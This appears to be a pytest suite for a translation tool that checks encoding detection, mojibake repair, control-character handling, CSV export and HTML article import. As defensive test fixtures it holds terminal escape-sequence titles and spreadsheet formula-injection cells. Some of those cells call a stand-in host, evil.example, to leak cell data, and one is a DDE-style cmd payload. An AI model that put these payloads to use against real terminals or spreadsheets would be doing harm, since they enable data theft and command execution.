"""Issue 16 §4, text that is not what it claims: English in legacy code pages and damaged UTF-8,
mojibake, control characters (refused at every way in, escaped wherever stored text is shown), CSV
cells a spreadsheet would run, HTML pages and news feeds."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import raw_db

from conftest import DRAFT, KO, ROOT, snapshot
from glossaries.controls import escape_controls, find_control
from glossaries.csv_io import neutralised, parse_csv, restored, write_csv
from glossaries.errors import GlossaryFileError
from glossaries.model import Term
from workflow.errors import InputError
from workflow.textfile import decode, read_article, read_text_file

ESC_TITLE = "A\x1b]0;pwned\x07\x1b[2JB"  # sets the window title, then clears the screen
SHOWN_TITLE = "A\\x1b]0;pwned\\x07\\x1b[2JB"

# --- English drafts in legacy code pages -----------------------------------------------------

WESTERN = "The workers’ “wages” were naïve — Kim’s café said €5, not £5.\n"
LATIN1 = "The naïve café crème; résumé, São Paulo, Zürich.\n"
KOREAN_WINDOWS = "The workers’ “wages” rose 5% ― Kim’s officer said, 김 씨.\n"  # what CP949 can hold


@pytest.mark.parametrize("text, codec, named", [
    (WESTERN, "cp1252", "cp1252"),
    (WESTERN, "mac_roman", "mac-roman"),
    (LATIN1, "latin-1", "cp1252"),  # Latin-1's printable characters are cp1252's, read the same
    (LATIN1, "mac_roman", "mac-roman"),
    (KOREAN_WINDOWS, "cp949", "cp949"),  # English saved by a Korean Windows: ’ is A1 AF
    ("He said naïve things.\n", "cp1252", "cp1252"),  # one accented letter is enough
    ("He said naïve things.\n", "mac_roman", "mac-roman"),
    ("North Korea’s workers\n", "mac_roman", "mac-roman"),
    ("The price was 5€ and “fair”.\n", "cp1252", "cp1252"),
])
def test_english_in_a_legacy_code_page_is_read_exactly_and_named(tmp_path, text, codec, named):
    path = tmp_path / "en.md"
    path.write_bytes(text.encode(codec))
    read = read_text_file(path)
    assert (read.encoding, read.text) == (named, text)


@pytest.mark.parametrize("data, line, byte", [
    (WESTERN.encode() * 3 + b"a \x92 b\n", 4, 0x92),  # one cp1252 apostrophe pasted into UTF-8
    ("’\n".encode() * 5 + b"x\xff\n", 6, 0xFF),
    ("“quoted”\n".encode() + b"\xe2\x80\n" + "’".encode() * 3, 2, 0xE2),  # a sequence cut short
])
def test_utf8_with_a_few_bad_bytes_is_refused_not_read_as_mojibake(data, line, byte):
    with pytest.raises(InputError) as caught:
        decode(data, "en.md")
    assert caught.value.source == "en.md"
    assert "is not valid UTF-8" in caught.value.problem
    assert f"0x{byte:02X}" in caught.value.problem and f"line {line}" in caught.value.problem


def test_ascii_with_one_high_byte_is_a_code_page_not_damage():
    assert decode(b"Kim\x92s officer said so.\n", "en.md") == ("cp1252", "Kim’s officer said so.\n")


# Pure EUC-KR is named CP949, which reads it the same (the detector's name, as before issue 16).
@pytest.mark.parametrize("codec, expected", [("cp949", "cp949"), ("euc-kr", "cp949"), ("utf-16", "utf-16")])
def test_the_korean_side_still_reads_as_before(tmp_path, codec, expected):
    text = KO.read_text(encoding="utf-8")
    path = tmp_path / "ko.md"
    path.write_bytes(text.replace("“", '"').replace("”", '"').replace("’", "'").replace("‘", "'")
                     .replace("·", ",").encode(codec))
    assert read_text_file(path).encoding == expected


def test_the_import_says_how_the_english_was_read_and_audits_it(tandem, tmp_path, db_path):
    english = tmp_path / "en-draft.md"
    english.write_bytes(DRAFT.read_text(encoding="utf-8").replace("외화벌이", "oehwabeoli").encode("mac_roman"))
    run = tandem("import", str(KO), "--english", str(english), user="david")
    assert run.code == 0, run.err
    assert f"{english}: English draft read as mac-roman (not UTF-8)" in run.out
    with raw_db.connect(db_path) as db:
        detail = json.loads(db.execute("SELECT detail FROM audit_log WHERE action = 'document.import'").fetchone()[0])
    assert detail["encoding"] == "utf-8" and detail["english_encoding"] == "mac-roman"
    shown = tandem("show", "1", "--json", user="david")
    assert any("’" in (s["english"] or "") for s in json.loads(shown.out)["segments"])


def test_a_damaged_english_draft_is_refused_through_the_cli_and_nothing_is_written(tandem, tmp_path, db_path):
    assert tandem("users", "add", "admin", "--role", "admin").code == 0
    english = tmp_path / "en-draft.md"
    data = DRAFT.read_bytes()
    english.write_bytes(data[:500] + b"\x92" + data[500:])
    before = snapshot(db_path)
    run = tandem("import", str(KO), "--english", str(english))
    assert run.code == 2 and run.out == ""
    assert run.err.startswith(f"tandem: error: {english}: is not valid UTF-8: 1 bad byte (0x92, line ")
    assert snapshot(db_path) == before


# --- mojibake ----------------------------------------------------------------------------------

@pytest.mark.parametrize("mojibake, fixed, via", [
    ("The workersâ€™ â€œwagesâ€\x9d", "The workers’ “wages”", "sloppy-windows-1252"),
    ("North Korea‚Äôs workers were na√Øve", "North Korea’s workers were naïve", "macroman"),
    ("naÃ¯ve cafÃ©", "naïve café", "latin-1"),
    ("북한 당국은 오늘 새로운 조치를 발표했다".encode().decode("latin-1"), "북한 당국은 오늘 새로운 조치를 발표했다", "latin-1"),
])
def test_double_encoded_utf8_is_repaired_with_a_warning_naming_the_line(tmp_path, mojibake, fixed, via):
    path = tmp_path / "en.md"
    path.write_text(f"# Title\n\n{mojibake}\n", encoding="utf-8")
    read = read_text_file(path)
    assert read.text == f"# Title\n\n{fixed}\n"
    [warning] = read.warnings
    assert warning.startswith(f"{path}: held UTF-8 text encoded twice (mojibake, read once as {via}); "
                              "repaired on lines 3, e.g. ")
    assert not find_control(warning)


@pytest.mark.parametrize("text", [
    "São Paulo, Ángel Di María and Zürich’s “café” — naïve.",
    "북한 당국은 “해외 노동자”를 귀국시켰다.",
    "Ã is a letter; so is Â.",  # a lone capital with a tilde is no mojibake
])
def test_correct_text_is_left_alone(text):
    from workflow.mojibake import repair

    assert repair(text) is None


def test_clean_imports_never_load_ftfy_or_trafilatura():
    code = ("import sys\nfrom workflow.importer import plan_import\n"
            f"plan_import({str(KO)!r}, {str(DRAFT)!r})\n"
            "print(sorted(m for m in ('ftfy', 'trafilatura') if m in sys.modules))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
    assert done.stdout.strip() == "[]"


def test_the_tui_does_not_load_them_either():
    done = subprocess.run([sys.executable, "-c", "import sys, tui.app\n"
                           "print(sorted(m for m in ('ftfy', 'trafilatura', 'charset_normalizer') if m in sys.modules))"],
                          capture_output=True, text=True, cwd=ROOT, check=True)
    assert done.stdout.strip() == "[]"


# --- control characters: refused where text comes in --------------------------------------------

@pytest.mark.parametrize("body, place, char", [
    ("# Title\n\nA paragraph.\n\nNow \x1b[2J clears.\n", "line 5, column 5", "U+001B (ESC)"),
    ("# \x1b]0;pwned\x07 title\n\nText.\n", "line 1, column 3", "U+001B (ESC)"),
    ("# Title\n\nAn 8-bit CSI \x9b2J here.\n", "line 3, column 14", "U+009B (CSI)"),
    ("# Title\n\nA DEL \x7f here.\n", "line 3, column 7", "U+007F (DEL)"),
    ("# Title\n\nA bell\x07.\n", "line 3, column 7", "U+0007 (BEL)"),
    ("# Title\n\nA lone carriage\rreturn is a line end; a separator\x1f is not.\n", "line 4, column 34", "U+001F"),
])
def test_an_article_holding_a_control_character_is_refused_with_its_place(tmp_path, body, place, char):
    path = tmp_path / "ko.md"
    path.write_text(body + "\n" + PROSE, encoding="utf-8")  # (a file that is mostly controls is "binary")
    with pytest.raises(InputError) as caught:
        read_text_file(path)
    assert caught.value.problem == (f"{place} is the control character {char}; Tandem does not take terminal "
                                    "control characters in text")


PROSE = "북한이 최근 러시아에 파견된 노동자 가운데 건강 문제로 노동 능력이 떨어진 사람들을 귀국시키라고 지시했다.\n" * 3


def test_form_feeds_and_vertical_tabs_are_line_breaks_in_text_files(tmp_path):
    path = tmp_path / "wire.txt"
    path.write_text("Headline\n\nFirst.\x0c\nSecond.\x0bThird.\n" + PROSE, encoding="utf-8")
    assert read_text_file(path).text == "Headline\n\nFirst.\n\nSecond.\nThird.\n" + PROSE


XLIFF = ('<?xml version="1.0" encoding="UTF-8"?>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">'
         '<file original="a" source-language="ko" target-language="en" datatype="plaintext"><body>\n'
         '<trans-unit id="1"><source>북한</source><target>{text}</target></trans-unit></body></file></xliff>\n')
TMX = ('<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="1.4"><header srclang="ko" segtype="sentence" o-tmf="x" '
       'adminlang="en" datatype="plaintext" creationtool="t" creationtoolversion="1"/><body>\n<tu>'
       '<tuv xml:lang="ko"><seg>조국</seg></tuv><tuv xml:lang="en"><seg>{text}</seg></tuv></tu></body></tmx>\n')


@pytest.mark.parametrize("template, name", [(XLIFF, "x.xlf"), (TMX, "x.tmx")])
@pytest.mark.parametrize("text, char", [
    ("a&#x9b;2J", "U+009B (CSI)"), ("a&#155;2J", "U+009B (CSI)"), ("a\u009d0;pwned", "U+009D (OSC)"),
    ("a&#127;", "U+007F (DEL)"), ('<ph id="1" ctype="x-\u0085">x</ph>', "U+0085 (NEL)"),
])
def test_xml_files_holding_c1_or_del_are_refused_by_the_reader_layer(template, name, text, char):
    from workflow.interchange.xmlsafe import parse_xml

    if name == "x.tmx":
        text = text.replace('ctype="x-', 'type="x-')
    data = template.format(text=text).encode("utf-8")
    with pytest.raises(InputError) as caught:
        parse_xml(data, name, "XLIFF")
    assert caught.value.source == name
    assert caught.value.problem == (f"line 3: holds the control character {char}; Tandem does not take terminal "
                                    "control characters in text")


def test_xml_already_refuses_c0_escapes():
    from workflow.interchange.xmlsafe import parse_xml

    for text in ("a&#x1b;[2J", "a\x1b[2J"):
        with pytest.raises(InputError, match="not well-formed XML"):
            parse_xml(XLIFF.format(text=text).encode(), "x.xlf", "XLIFF")


def test_tbx_is_read_through_the_same_layer():
    from glossaries.tbx import parse_tbx

    tbx = ('<?xml version="1.0"?><tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">'
           '<tbxHeader><fileDesc><sourceDesc><p>x</p></sourceDesc></fileDesc></tbxHeader><text><body>'
           '<conceptEntry id="c1"><langSec xml:lang="ko"><termSec><term>조국</term></termSec></langSec>'
           '<langSec xml:lang="en"><termSec><term>father&#x9b;2Jland</term></termSec></langSec></conceptEntry>'
           '</body></text></tbx>')
    with pytest.raises(GlossaryFileError, match=r"holds the control character U\+009B \(CSI\)"):
        parse_tbx(tbx.encode(), "x.tbx")


@pytest.mark.parametrize("row, column", [
    ("북한,North Korea,,,,,,note \x1b[2J", "note"),
    ("북한,North\x9b Korea,,,,,,", "en"),
    ('북한,"North Korea\x07",,,,,,', "en"),
])
def test_a_csv_glossary_cell_holding_a_control_character_is_refused(row, column):
    data = ("ko,en,ko_variants,en_variants,en_forbidden,pos,domain,note\n" + row + "\n").encode()
    with pytest.raises(GlossaryFileError) as caught:
        parse_csv(data, "terms.csv")
    assert caught.value.where == "line 2" and f"the {column!r} field holds the control character" in caught.value.problem


@pytest.mark.parametrize("args, field", [
    (["import", str(KO), "--title", ESC_TITLE], "--title"),
    (["import", str(KO), "--tags", "russia,x\x1b[31m"], "--tags"),
    (["users", "add", "eve", "--role", "translator", "--name", "Eve\x1b]0;pwned\x07"], "--name"),
])
def test_titles_tags_and_display_names_are_refused_and_nothing_is_written(tandem, db_path, args, field):
    assert tandem("users", "add", "admin", "--role", "admin", "--as", "admin").code == 0
    before = snapshot(db_path)
    run = tandem(*args)
    assert run.code == 2 and run.out == "", run
    assert re.match(rf"tandem: error: {field}: character \d+ is the control character U\+00(1B|07) \((ESC|BEL)\)",
                    run.err), run.err
    assert "\x1b" not in run.err  # the refusal itself is printed inert
    assert snapshot(db_path) == before


def test_titles_tags_and_display_names_are_stored_nfc(workspace):
    import unicodedata

    decomposed = unicodedata.normalize("NFD", "김정은 café")
    workspace.users.add("kim", ["translator"], display_name=decomposed, by="admin")
    assert workspace.users.get("kim").display_name == "김정은 café"
    imported = workspace.files.import_file(KO, title=decomposed, tags=[decomposed], by="admin").document.document
    assert (imported.title, list(imported.tags)) == ("김정은 café", ["김정은 café"])


def test_a_comment_holding_a_control_character_is_refused(workspace, sample_doc):
    with pytest.raises(InputError, match=r"character 6 is the control character U\+001B \(ESC\)"):
        workspace.comments.add(sample_doc.id, 1, "Look \x1b[2J", by="robert")


# --- control characters: escaped wherever stored text is shown ------------------------------------

@pytest.fixture
def old_workspace(workspace, sample_doc, db_path) -> Path:
    """A workspace written before readers refused control characters: they sit in a title, tags, a
    term's note and a comment, put there directly."""
    workspace.users.add("minji", ["terminologist"], by="admin")
    workspace.glossary.import_file(ROOT / "workflow" / "demo" / "glossary-nk-news.csv", by="minji")
    workspace.comments.add(sample_doc.id, 1, "plain", by="robert")
    workspace.close()
    with raw_db.connect(db_path) as db:
        db.execute("UPDATE documents SET title = ?, tags = ?", (ESC_TITLE, json.dumps(["x\x1b[31m\x9b"])))
        db.lift_guards()
        db.execute("UPDATE term_revisions SET en = en || ?", ("\x1b[2J",))
    return db_path


@pytest.mark.parametrize("args", [["docs"], ["show", "1"], ["glossary", "list"], ["history", "1"],
                                  ["export", "1", "--format", "md"]])
def test_the_cli_prints_stored_control_characters_escaped(tandem, old_workspace, args):
    run = tandem(*args)
    assert run.code == 0, run.err
    assert not find_control(run.out.replace("\n", "").replace("\t", "")), run.out
    if args[0] in ("docs", "show"):
        assert SHOWN_TITLE in run.out
    if args[0] == "glossary":
        assert "\\x1b[2J" in run.out


@pytest.mark.parametrize("args", [["docs", "--json"], ["show", "1", "--json"], ["glossary", "list", "--json"]])
def test_json_escapes_every_control_character_and_keeps_the_value(tandem, old_workspace, args):
    run = tandem(*args)
    assert run.code == 0 and not find_control(run.out.replace("\n", "")), run.out
    value = json.loads(run.out)
    if args[0] == "docs":
        assert value[0]["title"] == ESC_TITLE and value[0]["tags"] == ["x\x1b[31m\x9b"]


def test_escaping_is_visible_and_leaves_clean_text_alone():
    assert escape_controls(ESC_TITLE) == SHOWN_TITLE
    clean = "북한 “wages”\tand\nlines"
    assert escape_controls(clean) is clean


_SGR = re.compile(r"\x1b\[[0-9;:]*m|\x1b\]8;[^\x1b]*\x1b\\")


def _terminal_output(app) -> str:
    """What the app would write to the terminal for the whole screen now, Textual's own styling
    sequences (SGR colours, OSC 8 links) taken out."""
    from textual.strip import Strip

    strips = app.screen._compositor.render_strips()
    return "\n".join(_SGR.sub("", Strip.render(strip, app.console)) for strip in strips)


def test_a_hostile_title_renders_inert_in_the_documents_screen_and_the_editor(old_workspace):
    from textual.widgets import DataTable

    from tui.app import TandemApp
    from tui.screens.document import DocumentScreen
    from tui.screens.documents import DocumentsScreen
    from tui_helpers import run, until

    async def scenario() -> None:
        app = TandemApp(old_workspace, "david")
        async with app.run_test(size=(160, 36)) as pilot:
            await until(pilot, lambda: isinstance(app.screen, DocumentsScreen)
                        and app.screen.query_one(DataTable).row_count > 0)
            table = app.screen.query_one(DataTable)
            assert str(table.get_cell("1", "title")) == SHOWN_TITLE
            assert str(table.get_cell("1", "tags")).startswith("x\\x1b[31m")
            screen = _terminal_output(app)
            assert SHOWN_TITLE in screen and not find_control(screen.replace("\n", ""))
            await pilot.press("enter")
            await until(pilot, lambda: isinstance(app.screen, DocumentScreen) and app.screen.sub_title)
            assert SHOWN_TITLE in app.screen.sub_title
            screen = _terminal_output(app)
            assert "pwned" in screen and not find_control(screen.replace("\n", ""))

    run(scenario)


def test_the_last_guard_drops_control_characters_any_widget_renders():
    from textual.app import App
    from textual.widgets import Label, TextArea

    from tui.inert import keep_control_characters_inert
    from tui_helpers import run

    keep_control_characters_inert()

    class Raw(App):
        def compose(self):
            yield Label(ESC_TITLE + "\x9b2J")
            yield TextArea("typed " + ESC_TITLE)

    async def scenario() -> None:
        app = Raw()
        async with app.run_test(size=(60, 8)) as pilot:
            await pilot.pause()
            screen = _terminal_output(app)
            assert "A]0;pwned[2JB2J" in screen and not find_control(screen.replace("\n", ""))

    run(scenario)


# --- CSV cells a spreadsheet would run ----------------------------------------------------------

@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+82 2 123 4567", "'+82 2 123 4567"),
    ("-ism", "'-ism"),
    ("\tindented", "'\tindented"),
    ("\r=x", "'\r=x"),
    ("'=quoted by its author", "''=quoted by its author"),
    ("plain", "plain"),
    ("it's", "it's"),
    ("'plain", "'plain"),
])
def test_formula_cells_are_neutralised_on_export_and_restored_on_import(cell, written):
    assert neutralised(cell) == written
    assert restored(written) == cell


def test_a_glossary_round_trips_through_csv_with_formula_like_cells():
    terms = [Term(ko="북한", en="=HYPERLINK(\"http://x\")", en_variants=("@SUM(A1)", "-ism"),
                  note="+1 call", domain="'=odd").normalized(),
             Term(ko="조국", en="fatherland").normalized()]
    data = write_csv(terms)
    rows = data.splitlines()
    assert rows[1].startswith('북한,"\'=HYPERLINK(""http://x"")"') and "'@SUM(A1)|-ism" in rows[1]
    assert "'+1 call" in rows[1] and "''=odd" in rows[1]
    assert parse_csv(data.encode(), "back.csv") == terms


def test_glossary_export_through_the_cli_neutralises_formulas(tandem, tmp_path):
    source = tmp_path / "terms.csv"
    source.write_text('ko,en,note\n북한,North Korea,"=HYPERLINK(""http://evil"",""x"")"\n', encoding="utf-8")
    assert tandem("users", "add", "admin", "--role", "admin", "--role", "terminologist").code == 0
    assert tandem("glossary", "import", str(source)).code == 0
    out = tmp_path / "out.csv"
    assert tandem("glossary", "export", "--format", "csv", "-o", str(out)).code == 0
    assert '"\'=HYPERLINK(""http://evil"",""x"")"' in out.read_text(encoding="utf-8")
    again = tandem("glossary", "import", str(out))
    assert again.code == 0 and "1 unchanged" in again.out, again


# --- HTML pages and news feeds -------------------------------------------------------------------

KO_PAGE = """<!DOCTYPE html>
<html lang="ko"><head>
<meta http-equiv="Content-Type" content="text/html; charset={charset}">
<title>북한, 러시아 파견 노동자 중 환자 귀국 지시 - 데일리NK</title>
<script>var x = "<p>스크립트</p>";</script><style>p {{ color: red }}</style>
</head><body>
<nav><ul><li><a href="/">홈</a></li><li><a href="/politics">정치</a></li></ul></nav>
<article>
<h1>북한, 러시아 파견 노동자 중 환자 귀국 지시</h1>
<figure><img src="/img/workers.jpg" alt="노동자"><figcaption>러시아에 파견된 북한 노동자들. (사진=강동완 제공)</figcaption></figure>
<p>북한이 최근 러시아에 파견된 노동자 가운데 건강 문제로 노동 능력이 떨어진 사람들을 <b>귀국</b>시키라고 지시한 것으로 알려졌다.</p>
<p>데일리NK 소식통에 따르면 북한 당국은 지난달 말 해외 노동자 관리 부서에 이 같은 지시를 내려보냈다. 똠방각하 펲시.</p>
<h2>외화벌이 압박 커져</h2>
<p>전문가들은 대북 제재 속에서 외화벌이에 대한 압박이 커지면서 이런 조치가 나왔다고 분석했다.</p>
</article>
<aside><h3>많이 본 뉴스</h3><ul><li><a href="/1">김정은, 군수공장 현지지도</a></li></ul></aside>
<footer>무단 전재 및 재배포 금지</footer>
</body></html>
"""
KO_BLOCKS = [("title", "북한, 러시아 파견 노동자 중 환자 귀국 지시"),
             ("caption", "러시아에 파견된 북한 노동자들. (사진=강동완 제공)"),
             ("paragraph", "북한이 최근 러시아에 파견된 노동자 가운데 건강 문제로 노동 능력이 떨어진 사람들을 귀국시키라고 지시한 것으로 "
                           "알려졌다."),
             ("paragraph", "데일리NK 소식통에 따르면 북한 당국은 지난달 말 해외 노동자 관리 부서에 이 같은 지시를 내려보냈다. 똠방각하 펲시."),
             ("heading", "외화벌이 압박 커져"),
             ("paragraph", "전문가들은 대북 제재 속에서 외화벌이에 대한 압박이 커지면서 이런 조치가 나왔다고 분석했다.")]


@pytest.mark.parametrize("charset, codec, encoding, warning", [
    ("utf-8", "utf-8", "utf-8", None),
    ("euc-kr", "cp949", "cp949", "declares euc-kr but holds CP949 characters; read as CP949"),  # 똠, 펲
    ("ks_c_5601-1987", "cp949", "cp949", "declares ks_c_5601-1987 but holds CP949 characters; read as CP949"),
    ("cp949", "cp949", "cp949", None),
    ("utf-8", "cp949", "cp949", "declares the charset utf-8 but is not; read as cp949"),
    ("x-klingon", "utf-8", "utf-8", "declares the charset x-klingon, which Tandem does not know; read as utf-8 (detected)"),
])
def test_a_korean_page_in_any_encoding_imports_as_its_article(tmp_path, charset, codec, encoding, warning):
    path = tmp_path / "page.html"
    path.write_bytes(KO_PAGE.format(charset=charset).encode(codec))
    read = read_article(path)
    assert read.encoding == encoding
    assert [(b.kind.value, b.text) for b in read.blocks] == KO_BLOCKS
    assert list(read.warnings) == ([f"{path}: {warning}"] if warning else [])


def test_an_html_page_pairs_with_an_english_page_through_the_cli(tandem, tmp_path):
    korean, english = tmp_path / "ko.html", tmp_path / "en.htm"
    korean.write_bytes(KO_PAGE.format(charset="euc-kr").replace(" 똠방각하 펲시.", "").encode("euc-kr"))
    english.write_bytes(b"""<?xml version="1.0" encoding="windows-1252"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>North Korea orders sick workers home | Daily NK</title></head>
<body><div id="menu"><a href="/">Home</a> <a href="/news">News</a></div><div class="article">
<h1>North Korea orders sick workers in Russia to go home</h1>
<figure><img src="w.jpg"/><figcaption>North Korean workers in Russia. (Courtesy of Kang Dong Wan)</figcaption></figure>
<p>North Korea recently ordered workers deployed to Russia to return home if their ability to work is impaired, Daily NK has learned.</p>
<p>The country\x92s authorities sent the order to the departments that manage overseas workers late last month.</p>
<h2>Pressure to earn foreign currency</h2>
<p>Experts said the pressure to earn foreign currency under sanctions has grown.</p>
</div><div class="footer">Copyright Daily NK</div></body></html>""")
    run = tandem("import", str(korean), "--english", str(english), user="david")
    assert run.code == 0, run.err
    assert f"{korean}: read as HTML page" in run.out and "(euc-kr)" in run.out
    assert f"{english}: English draft read as cp1252 (not UTF-8)" in run.out
    shown = json.loads(tandem("show", "1", "--json", user="david").out)
    pairs = [(s["kind"], s["korean"][:5], (s["english"] or "")[:20]) for s in shown["segments"]]
    assert pairs == [("title", "북한, 러", "North Korea orders s"), ("caption", "러시아에 ", "North Korean workers"),
                     ("paragraph", "북한이 최", "North Korea recently"), ("paragraph", "데일리NK", "The country’s author"),
                     ("heading", "외화벌이 ", "Pressure to earn for"), ("paragraph", "전문가들은", "Experts said the pre")]
    assert not any("<" in s["korean"] + (s["english"] or "") for s in shown["segments"])
    assert shown["document"]["title"] == "북한, 러시아 파견 노동자 중 환자 귀국 지시"


def test_a_page_with_no_article_is_refused_and_validate_says_so(tandem, tmp_path):
    path = tmp_path / "empty.html"
    path.write_text("<!DOCTYPE html><html><head><title>x</title></head><body><script>x()</script></body></html>",
                    encoding="utf-8")
    run = tandem("import", str(path))
    assert run.code == 2 and "holds no article text" in run.err
    check = tandem("validate", str(path))
    assert check.code == 1 and "invalid HTML page" in check.out and "holds no article text" in check.out


@pytest.mark.parametrize("feed, kind", [
    ('<?xml version="1.0"?>\n<rss version="2.0"><channel><title>데일리NK</title><item><title>북한</title>'
     "<description>요약</description></item></channel></rss>", "RSS"),
    ('<rss version="0.91"><channel><title>x</title></channel></rss>', "RSS"),
    ('<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><title>y</title>'
     "</entry></feed>", "Atom"),
    ('<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
     'xmlns="http://purl.org/rss/1.0/"><channel/></rdf:RDF>', "RSS 1.0 (RDF)"),
])
def test_a_news_feed_is_refused_naming_the_file_and_what_it_is(tandem, db_path, tmp_path, feed, kind):
    assert tandem("users", "add", "admin", "--role", "admin").code == 0
    path = tmp_path / "feed.xml"
    path.write_text(feed, encoding="utf-8")
    before = snapshot(db_path)
    run = tandem("import", str(path))
    assert run.code == 2 and run.out == ""
    assert run.err == (f"tandem: error: {path}: is a news feed ({kind}): a list of articles, usually only their "
                       "summaries, and Tandem imports one article at a time; save the article's own page (HTML) or "
                       "its text and import that\n")
    assert snapshot(db_path) == before


def test_an_english_draft_that_is_not_an_article_is_refused(tmp_path):
    path = tmp_path / "en.xlf"
    path.write_text(XLIFF.format(text="x"), encoding="utf-8")
    with pytest.raises(InputError, match="holds XLIFF 1.2, not an article"):
        read_article(path)


@pytest.mark.parametrize("body", ["<p>Kim said \x1b]0;pwned\x07 so.</p>", "<p>CSI \x9b2J here</p>"])
def test_a_page_whose_text_holds_control_characters_is_refused(tmp_path, body):
    path = tmp_path / "page.html"
    path.write_text(f"<html><head><title>T</title></head><body><article><h1>Headline here</h1><p>{'Text. ' * 20}</p>"
                    f"{body}</article></body></html>", encoding="utf-8")
    with pytest.raises(InputError, match="is the control character"):
        read_article(path)


def test_the_html_pages_in_the_corpora_import_without_markup():
    from corpora import require_corpora

    base = require_corpora()
    pages = sorted(p for p in base.rglob("*") if p.suffix.lower() in (".htm", ".html"))
    assert len(pages) >= 8
    for page in pages:
        read = read_article(page)
        assert read.blocks, page
        assert not any(re.search(r"</?[a-z]+[ >]", b.text) for b in read.blocks), page
    lisa = read_article(base / "tmx-lisa-compliance-kit" / "ExportTest1B.htm")
    assert lisa.encoding == "cp1252" and lisa.blocks[1].text.startswith("é=eacute")
